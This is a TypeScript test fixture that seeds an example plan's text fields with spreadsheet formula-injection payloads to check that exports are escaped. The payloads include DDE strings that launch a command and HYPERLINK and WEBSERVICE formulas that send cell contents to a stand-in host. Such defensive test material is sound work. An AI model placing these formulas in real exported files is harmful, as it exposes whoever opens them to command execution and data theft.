// A plan in which every text begins with something that a spreadsheet program would compute.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { PlanSnapshot } from '#shared/plan/document.ts';

export const payloads: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd","/C calc","a")',
  '=HYPERLINK("http://192.0.2.1/?"&A1,"点这里")',
  '=IMPORTXML("http://192.0.2.1/","//a")',
  '=WEBSERVICE("http://192.0.2.1/"&A1)',
  '{=1+1}',
  '","=1+1',
  '\n=1+1\n=2+2',
  "'=1+1",
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  '{HYPERLINK "http://192.0.2.1/"}',
];

const root = path.resolve(import.meta.dirname, '..', '..');

/** The example, with rows of the sheets that it has not; every text of words gets the next payload, the first one at `from`. */
export function armedSnapshot(from: number, more: Partial<PlanSnapshot>): PlanSnapshot {
  const file = path.join(root, 'templates', 'example-plan.json');
  const plan = { ...(JSON.parse(readFileSync(file, 'utf8')) as PlanSnapshot), ...more };
  let next = from;
  const arm = (value: unknown, key = ''): unknown => {
    if (typeof value === 'string') return armed(value, key);
    if (Array.isArray(value)) return value.map((each) => arm(each, key));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, arm(each, name)]));
  };
  /** Ids, days and words of the program's own have no Chinese in them; texts that a person may leave empty have a name. */
  const armed = (value: string, key: string): string => {
    if (!/\p{Script=Han}/u.test(value) && !(value === '' && fields.has(key))) return value;
    const payload = payloads[next % payloads.length] ?? '';
    next += 1;
    return `${payload}${value}`;
  };
  return arm(plan) as PlanSnapshot;
}

/** Texts that the example leaves empty. */
const fields = new Set(['note', 'leader', 'contact', 'phone', 'problems', 'nextSteps', 'group']);
